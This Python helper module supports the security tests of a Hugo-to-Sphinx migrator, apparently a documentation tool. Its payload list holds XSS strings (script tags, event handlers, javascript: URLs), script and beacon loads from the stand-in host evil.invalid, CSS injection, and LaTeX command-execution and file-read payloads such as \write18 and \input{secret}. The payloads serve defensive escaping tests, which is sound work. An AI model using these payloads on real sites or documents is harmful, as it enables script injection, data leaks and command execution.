"""Shared by the security tests: the fuzz-mode switch and its counter, the injection payloads,
synthetic Hugo sites, running the migrator as a process, and the Chromium guard.

A top-level module (``tests/security`` is not a package), named so that it cannot clash with
another test directory's helpers.
"""

from __future__ import annotations

import importlib.util
import json
import os
import random
import re
import subprocess
import sys
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, settings

REPO = Path(__file__).parents[2]

# --- fuzz mode ------------------------------------------------------------------------------------

#: ``MATOME_FUZZ=1`` raises every property test's example count (see SECURITY.md).
FUZZ = os.environ.get("MATOME_FUZZ", "").strip() not in ("", "0")

#: Inputs generated per property test in this session (printed by conftest.py at the end).
COUNTS: Counter[str] = Counter()


def examples(default: int, fuzz: int) -> int:
    return fuzz if FUZZ else default


def fuzz_settings(default: int, fuzz: int) -> settings:
    """Hypothesis settings of one property test: *default* examples, *fuzz* in fuzz mode.

    No example database (nothing is written into the repository) and no deadline (the machine
    is shared; slowness is tested separately, with scaling checks).
    """
    return settings(
        max_examples=examples(default, fuzz),
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
        print_blob=True,
    )


def tick(name: str) -> None:
    """Count one generated input of the property test *name*."""
    COUNTS[name] += 1


# --- tools ----------------------------------------------------------------------------------------


def _tests_conftest():
    # tests/conftest.py is a top-level module named "conftest", like this directory's: load it
    # by path so that "from conftest import" cannot find the wrong one.
    spec = importlib.util.spec_from_file_location(
        "_matome_security_tests_conftest", REPO / "tests" / "conftest.py"
    )
    module = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(module)
    return module


_CONFTEST = _tests_conftest()
require_tool = _CONFTEST.require_tool
CORPUS: Path = _CONFTEST.CORPUS


def require(what: str, found: object) -> None:
    """``require_tool`` for things that are not programs on PATH."""
    if found:
        return
    if os.environ.get("MATOME_REQUIRE_TOOLS"):
        pytest.fail(f"{what} is required (MATOME_REQUIRE_TOOLS is set) but not installed")
    pytest.skip(f"{what} is not installed")


# --- payloads -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    id: str
    value: str
    #: A fragment that must reach the reader as text (HTML: visible text; PDF: its text).
    probe: str = ""


#: 6.5 KB, far beyond any name, time, color, tag or URL part (the huge-input tests of
#: test_boundaries.py go to 10 MB).
_OVERSIZED = ("ＡＢＣ " * 600) + "<script>window.__pwned='big'</script>" + ("z" * 4000)

#: Every payload is tried in every field. Anything that runs sets ``window.__pwned`` (or calls
#: ``alert``), anything that leaves the page asks for ``evil.invalid``.
PAYLOADS: tuple[Payload, ...] = (
    # -- script and event handlers
    Payload("script", "<script>window.__pwned='script'</script>", "window.__pwned"),
    Payload("script-upper", "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>", "evil.invalid"),
    Payload("img-onerror", "<img src=x onerror=\"window.__pwned='img'\">", "onerror"),
    Payload("svg-onload", "<svg onload=\"window.__pwned='svg'\"/>", "onload"),
    Payload("svg-script", "<svg><script>window.__pwned='svg-script'</script></svg>", "svg"),
    Payload("body-onload", "<body onload=alert('body')>", "onload"),
    Payload("iframe-js", "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>", "iframe"),
    Payload(
        "object-data",
        "<object data=\"data:text/html,<script>parent.__pwned='object'</script>\"></object>",
        "object",
    ),
    Payload("details-ontoggle", "<details open ontoggle=alert('toggle')>", "ontoggle"),
    Payload("autofocus", "<input autofocus onfocus=\"window.__pwned='focus'\">", "onfocus"),
    # -- URLs
    Payload("js-url", "javascript:window.__pwned='url'", "javascript"),
    Payload("js-url-obfuscated", " JaVaScRiPt:alert('url2')", "alert"),
    Payload("md-js-link", "[click](javascript:alert('md'))", "click"),
    Payload("html-js-link", "<a href=\"javascript:alert('a')\">a-link</a>", "a-link"),
    Payload("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "base64"),
    Payload("rst-js-link", "`x <javascript:alert('rst')>`_", "alert"),
    Payload("remote-image", "![i](https://evil.invalid/beacon.png)", "beacon"),
    # -- breaking out of attributes, elements and the page structure
    Payload("attr-break", "\"><script>window.__pwned='attr'</script>", "script"),
    Payload("attr-break-single", "' onmouseover='window.__pwned=1' x='", "onmouseover"),
    Payload(
        "close-tags", "</span></figcaption></blockquote></figure><b id=escaped>x</b>", "figure"
    ),
    Payload("unclosed-div", '<div style="position:fixed;inset:0;background:red">', "position"),
    Payload("comment-open", "<!-- swallow the rest", "swallow"),
    Payload("cdata", "<![CDATA[ ]]><script>window.__pwned='cdata'</script>", "CDATA"),
    # -- entity tricks
    Payload("entities", "&lt;script&gt;window.__pwned='ent'&lt;/script&gt;", "window"),
    Payload("numeric-entities", "&#60;img src=x onerror=alert(1)&#62;", "onerror"),
    Payload("double-escape", "&amp;lt;script&amp;gt;", "script"),
    # -- CSS
    Payload("css-break", "red; background: url(https://evil.invalid/c.png)", "background"),
    Payload("css-close", "#fff;}body{display:none}/*", "display"),
    Payload("css-style-tag", "<style>body{display:none}</style>", "display"),
    Payload("css-class", 'x" style="display:none', "display"),
    Payload("css-expression", "expression(alert(1))", "expression"),
    Payload("css-var", "var(--x);--matome-color:url(https://evil.invalid/v)", "matome"),
    # -- MyST / reST constructs that make raw output
    Payload("myst-raw-role", "{raw}`<script>window.__pwned='role'</script>`", "raw"),
    Payload("rst-raw", ".. raw:: html\n\n   <script>window.__pwned='rstraw'</script>", "raw"),
    # -- LaTeX
    Payload("tex-input", r"\input{secret}", "input{secret}"),
    Payload("tex-write18", r"\immediate\write18{touch matome-pwned}", "write18"),
    Payload("tex-catcode", r"\catcode`\{=12 \catcode`\}=12 {", "catcode"),
    Payload("tex-braces", r"}}}\end{matomebubble}\end{document}{{{", "end{document}"),
    Payload("tex-specials", r"# $ % & ~ _ ^ \ { } \\ \relax \par", "relax"),
    Payload("tex-loop", r"\def\x{\x}\x \loop\iftrue\repeat", "def"),
    Payload("tex-verb", r"\verb|x| \begin{verbatim}", "verbatim"),
    # -- Hugo and Markdown
    Payload("shortcode", '{{< matomeQuote body="inner" >}}', "matomeQuote"),
    Payload("shortcode-comment", "{{</* details */>}}", "details"),
    Payload("md-html-block", "<div onclick=\"window.__pwned='div'\">block</div>", "block"),
    # -- text direction, invisible and control characters
    Payload("bidi", "user\u202egnp.exe\u202c \u2066iso\u2069 \u200f", "user"),
    Payload("zero-width", "a\u200bb\u200cc\u200dd\u2060e\ufeff", "a"),
    Payload("controls", "ctl\x1b[31m\x07\x08\x0b\x0c\x7f\x85end", "ctl"),
    Payload("line-separators", "one\u2028two\u2029three", "one"),
    # -- oversized
    Payload("oversized", _OVERSIZED, "ＡＢＣ"),
)

#: Words that only appear in the output if a payload took effect somewhere.
LEAK_MARK = "LEAKED-SECRET-7f3a"


# --- Hugo sites -----------------------------------------------------------------------------------


def shortcode_value(value: str) -> str | None:
    """``value`` written as a Hugo shortcode parameter that reads back exactly, or None.

    ``"…"`` needs no ``"``, no newline, no final backslash (``\\"`` is an escape, and one
    drops every backslash) and no ``\\``` (an error); a raw ``\\`…\\``` string needs no
    backtick.
    """
    if not re.search(r'["\n\r]|\\$|\\`', value):
        return f'"{value}"'
    if "`" not in value:
        return f"`{value}`"
    return None


def toml_string(value: str) -> str:
    """A TOML basic string (JSON escapes are valid TOML escapes, except ``\\/``)."""
    encoded = json.dumps(value, ensure_ascii=False)
    return encoded.replace("\\/", "/").replace("\x7f", "\\u007f")


HUGO_CONFIG = """\
baseURL = "https://matome.example.org/"
title = "Security test site"
languageCode = "ja"
defaultContentLanguage = "ja"
timeZone = "Asia/Tokyo"
enableEmoji = true
[taxonomies]
  tag = "tags"
  months = "months"
[markup.goldmark.renderer]
  unsafe = true
"""


def write_site(root: Path, posts: dict[str, str], config: str = HUGO_CONFIG) -> Path:
    (root / "content").mkdir(parents=True, exist_ok=True)
    (root / "hugo.toml").write_text(config, encoding="utf-8")
    for relative, text in posts.items():
        path = root / "content" / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


_WORDS = [
    "the",
    "keyboard",
    "wood",
    "oak",
    "cherry",
    "rust",
    "coffee",
    "compiler",
    "cache",
    "latency",
    "font",
    "pixel",
    "kernel",
    "patch",
    "review",
    "merge",
    "build",
    "test",
    "deploy",
    "browser",
    "server",
    "query",
    "index",
    "vector",
    "model",
    "prompt",
    "token",
    "archive",
    "forum",
    "thread",
    "comment",
    "reply",
    "vote",
    "karma",
    "moderator",
    "summary",
    "translation",
]
_JA = [
    "木製",
    "キーボード",
    "打鍵感",
    "指",
    "疲れ",
    "職人",
    "削る",
    "コーヒー",
    "焙煎",
    "豆",
    "コンパイラ",
    "速い",
    "遅い",
    "面白い",
    "本当に",
    "そうだね",
    "分かる",
    "違うと思う",
    "昔は",
    "今は",
    "結局",
    "なるほど",
]
COLORS = ("#ff5c5c", "#ff33a1", "#38d3d3", "#785bff", "#45d325", "#ff5733", "")


def _sentence(rng: random.Random) -> str:
    if rng.random() < 0.6:
        return "".join(rng.choice(_JA) for _ in range(rng.randint(3, 12))) + "。"
    words = [rng.choice(_WORDS) for _ in range(rng.randint(4, 16))]
    return " ".join(words).capitalize() + "."


def _quote_body(rng: random.Random) -> str:
    parts = []
    for _ in range(rng.randint(1, 5)):
        sentence = _sentence(rng)
        roll = rng.random()
        if roll < 0.1:
            sentence = f"*{sentence}*"
        elif roll < 0.15:
            sentence += f" https://example.com/{rng.randint(1, 999)}"
        elif roll < 0.2:
            sentence = f"&gt;{sentence}"
        parts.append(sentence)
    return "<br>".join(parts)


def synthetic_archive(root: Path, posts: int = 300, quotes: int = 80, seed: int = 0) -> Path:
    """A made-up Hugo matome archive shaped like the real one (page bundles by month, TOML
    front matter, quotes partly inside ``details`` groups, tags, feature images)."""
    rng = random.Random(seed)
    content = {}
    for n in range(posts):
        month = 1 + n % 9
        day = 1 + (n // 9) % 28
        slug = f"2025_{month:02d}_{day:02d}_post_{n:04d}"
        lines = [
            "+++",
            f"date = '2025-{month:02d}-{day:02d}T{n % 24:02d}:00:00'",
            f"months = '2025/{month:02d}'",
            f"title = {toml_string(_sentence(rng)[:60])}",
            f"tags = [{', '.join(toml_string(rng.choice(_WORDS)) for _ in range(3))}]",
            f"featureimage = 'thumbnails/t{n % 7}.png'",
            "+++",
            "",
            f"> {_sentence(rng)}",
            "",
            f"引用元：[https://news.example.com/item?id={n}](https://news.example.com/item?id={n})",
            "",
        ]
        for q in range(quotes):
            if q == quotes // 2:
                lines += ["", f'{{{{< details summary="もっと見る ({quotes - q})" >}}}}', ""]
            body = _quote_body(rng)
            user = f"user_{rng.randint(1, 5000)}"
            minute = q % 60
            lines.append(
                f'{{{{<matomeQuote body="{body}" userName="{user}" '
                f'createdAt="2025-{month:02d}-{day:02d}T{q // 60 + 10:02d}:{minute:02d}:00" '
                f'color="{rng.choice(COLORS)}">}}}}'
            )
            lines.append("")
        lines += ["{{< /details >}}", ""]
        content[f"posts/2025_{month:02d}/{slug}/index.md"] = "\n".join(lines)
    write_site(root, content)
    thumbs = root / "assets" / "thumbnails"
    thumbs.mkdir(parents=True, exist_ok=True)
    for k in range(7):
        (thumbs / f"t{k}.png").write_bytes(bytes(range(256)) * (k + 1))
    (root / "static").mkdir(exist_ok=True)
    (root / "static" / "robots.txt").write_text("User-agent: *\n", encoding="utf-8")
    return root


# --- running the migrator -------------------------------------------------------------------------


def migrate_command(site: Path, out: Path, *extra: str) -> list[str]:
    return [
        sys.executable,
        "-m",
        "sphinxcontrib_matome",
        "migrate",
        str(site),
        str(out),
        "--no-progress",
        *extra,
    ]


def run_migrate(site: Path, out: Path, *extra: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        migrate_command(site, out, *extra),
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        cwd=REPO,
        **kwargs,
    )


def tree(root: Path) -> dict[str, bytes]:
    """Every file under *root* (path relative to it → bytes)."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


# --- the injection project ------------------------------------------------------------------------

#: A value of every field that is plain text: the baseline pages are built from it.
BASELINE = Payload("baseline", "harmless words", "harmless")
SENTINEL_BEFORE = "SENTINEL-BEFORE-QUOTES"
SENTINEL_AFTER = "SENTINEL-AFTER-QUOTES"

#: The fields of each side, as the tests name them.
DIRECTIVE_FIELDS = (
    "body",
    "body-option",
    "user-name",
    "created-at",
    "color",
    "avatar",
    "url",
    "align",
    "class",
    "name",
)
MIGRATOR_FIELDS = (
    "body",
    "userName",
    "createdAt",
    "color",
    "avatar",
    "url",
    "title",
    "tags",
    "summary",
    "details-summary",
)


#: Payloads also tried as a page ``url`` and an ``alias`` (folder names, links, redirects).
URL_PAYLOADS = (
    "script",
    "attr-break",
    "attr-break-single",
    "js-url",
    "entities",
    "bidi",
    "css-class",
    "unclosed-div",
)


def _one_line(value: str) -> str:
    return " ".join(value.splitlines())


def _migrated_post(payload: Payload) -> str | None:
    value = shortcode_value(payload.value)
    if value is None:
        return None
    summary = shortcode_value(_one_line(payload.value)) or '"x"'
    params = " ".join(
        f"{name}={value}" for name in ("body", "userName", "createdAt", "color", "avatar", "url")
    )
    return "\n".join(
        [
            "+++",
            f"title = {toml_string(payload.value)}",
            "date = '2025-02-05T00:00:00'",
            f"tags = [{toml_string(payload.value)}, 'safe-tag']",
            f"summary = {toml_string(payload.value)}",
            "+++",
            "",
            SENTINEL_BEFORE,
            "",
            f"{{{{< details summary={summary} >}}}}",
            "",
            f"{{{{<matomeQuote {params}>}}}}",
            "",
            "{{< /details >}}",
            "",
            SENTINEL_AFTER,
            "",
        ]
    )


def directive_myst(payloads: tuple[Payload, ...]) -> str:
    from sphinxcontrib_matome.migrate.convert import fence_for, yaml_string

    lines = ["# Directive payloads (MyST)", "", SENTINEL_BEFORE, ""]
    for n, payload in enumerate(payloads):
        options = {
            name: payload.value
            for name in ("user-name", "created-at", "color", "avatar", "url", "align", "class")
        }
        for variant, body_option in (("content", False), ("option", True)):
            opts = dict(options, name=f"{payload.value} {variant} {n}")
            if body_option:
                opts["body"] = payload.value
            content = "" if body_option else payload.value
            fence = fence_for(content)
            lines.append(f"{fence}{{matome-quote}}")
            lines += [f":{name}: {yaml_string(value)}" for name, value in opts.items()]
            lines += ["", content, fence, ""]
    lines += [SENTINEL_AFTER, ""]
    return "\n".join(lines)


def directive_rst(payloads: tuple[Payload, ...]) -> str:
    lines = ["Directive payloads (reST)", "=========================", "", SENTINEL_BEFORE, ""]
    for n, payload in enumerate(payloads):
        value = _one_line(payload.value)
        for variant in ("content", "option"):
            lines.append(".. matome-quote::")
            for name in ("user-name", "created-at", "color", "avatar", "url", "align", "class"):
                lines.append(f"   :{name}: {value}")
            lines.append(f"   :name: {value} {variant} {n}")
            if variant == "option":
                lines.append(f"   :body: {value}")
            lines.append("")
            if variant == "content":
                lines += ["   " + line if line else "" for line in payload.value.splitlines()]
                lines.append("")
    lines += [SENTINEL_AFTER, ""]
    return "\n".join(lines)


@dataclass
class InjectionProject:
    site: Path
    out: Path
    migrate: subprocess.CompletedProcess
    #: payload id -> docname of its migrated post ("" when the migrator refused it)
    posts: dict[str, str]
    #: payloads that cannot be written as a shortcode parameter at all
    unwritable: list[str]


def build_injection_project(
    root: Path, payloads: tuple[Payload, ...] = PAYLOADS
) -> InjectionProject:
    """A Hugo site with every payload in every field, migrated, plus directive pages.

    The directive pages (MyST and reST, payloads and baseline) are added to the migrated
    project and to its root toctree, so one Sphinx build of OUT_DIR covers both sides.
    """
    site, out = root / "site", root / "out"
    posts: dict[str, str] = {}
    unwritable = []
    for payload in (BASELINE, *payloads):
        text = _migrated_post(payload)
        if text is None:
            unwritable.append(payload.id)
            continue
        posts[f"posts/inj/{payload.id}/index.md"] = text
    for payload in payloads:
        if payload.id in URL_PAYLOADS:
            # The page URL and an alias: they become folder names, links and redirect pages.
            posts[f"posts/url/{payload.id}/index.md"] = (
                "+++\ntitle = 'URL payload'\ndate = '2025-02-04'\n"
                f"url = {toml_string('/u/' + payload.value + '/')}\n"
                f"aliases = [{toml_string('/a/' + payload.value + '/')}]\n+++\n\n"
                f"{SENTINEL_BEFORE}\n\n{SENTINEL_AFTER}\n"
            )
    write_site(site, posts)
    run = run_migrate(site, out, "--keep-going", "--theme", "alabaster")
    docs = {}
    for payload in (BASELINE, *payloads):
        # A file, or a folder where the page refers to something by a relative path.
        written = [
            docname
            for docname in (f"posts/inj/{payload.id}", f"posts/inj/{payload.id}/index")
            if (out / f"{docname}.md").is_file()
        ]
        docs[payload.id] = written[0] if written else ""
    (out / "directive").mkdir(exist_ok=True)
    (out / "directive" / "myst.md").write_text(directive_myst(payloads), encoding="utf-8")
    (out / "directive" / "rst.rst").write_text(directive_rst(payloads), encoding="utf-8")
    (out / "directive" / "baseline-myst.md").write_text(
        directive_myst((BASELINE,)), encoding="utf-8"
    )
    (out / "directive" / "baseline-rst.rst").write_text(
        directive_rst((BASELINE,)), encoding="utf-8"
    )
    index = out / "index.md"
    text = index.read_text(encoding="utf-8")
    extra = "directive/myst\ndirective/rst\ndirective/baseline-myst\ndirective/baseline-rst\n"
    index.write_text(
        text.replace("\n```\n", "\n" + extra + "```\n", 1)
        if False
        else text.rstrip("\n").removesuffix("```") + extra + "```\n",
        encoding="utf-8",
    )
    return InjectionProject(site, out, run, docs, unwritable)


def sphinx_build(src: Path, out: Path, builder: str, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sphinx", "-b", builder, "-q", *extra, str(src), str(out)],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        cwd=REPO,
    )


def build_latex_project(root: Path, project: InjectionProject, payload_ids: list[str]) -> Path:
    """A small Sphinx project for the LaTeX builder: the migrated posts of *payload_ids* (as
    the migrator wrote them, with its conf.py) and directive pages holding the same payloads."""
    import shutil

    src = root / "latex-src"
    src.mkdir(parents=True)
    shutil.copyfile(project.out / "conf.py", src / "conf.py")
    chosen = tuple(p for p in PAYLOADS if p.id in payload_ids)
    entries = []
    for payload in chosen:
        docname = project.posts.get(payload.id)
        if docname:
            target = src / f"{docname}.md"
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(project.out / f"{docname}.md", target)
            entries.append(docname)
    (src / "directive").mkdir()
    (src / "directive" / "myst.md").write_text(directive_myst(chosen), encoding="utf-8")
    (src / "directive" / "rst.rst").write_text(directive_rst(chosen), encoding="utf-8")
    entries += ["directive/myst", "directive/rst"]
    (src / "index.md").write_text(
        "# Payloads\n\n```{toctree}\n" + "\n".join(entries) + "\n```\n", encoding="utf-8"
    )
    with (src / "conf.py").open("a", encoding="utf-8") as conf:
        conf.write(
            "latex_documents = [('index', 'payloads.tex', 'Payloads', 'security tests', 'howto')]\n"
        )
    return src


def compile_latex(directory: Path, name: str = "payloads") -> subprocess.CompletedProcess:
    """One uplatex pass and dvipdfmx: Sphinx's engine for a Japanese site (the migrated one),
    in nonstop mode. One pass is enough to print every payload; references may stay undefined.
    """
    tex = subprocess.run(
        ["uplatex", "-kanji=utf8", "-interaction=nonstopmode", "-halt-on-error", f"{name}.tex"],
        cwd=directory,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )
    if tex.returncode != 0:
        return tex
    return subprocess.run(
        ["dvipdfmx", "-q", f"{name}.dvi"],
        cwd=directory,
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )


def without_root_powers():
    """A ``preexec_fn`` that makes file permissions apply to a child process started as root.

    Root ignores permission bits (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH); dropping them from the
    bounding set before ``exec`` makes ``chmod`` mean what it says, as for everyone else.
    Returns None when not root (permissions already apply).
    """
    if os.geteuid() != 0:
        return None
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    pr_capbset_drop = 24

    def drop() -> None:
        for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
            if libc.prctl(pr_capbset_drop, capability, 0, 0, 0) != 0:
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")

    return drop
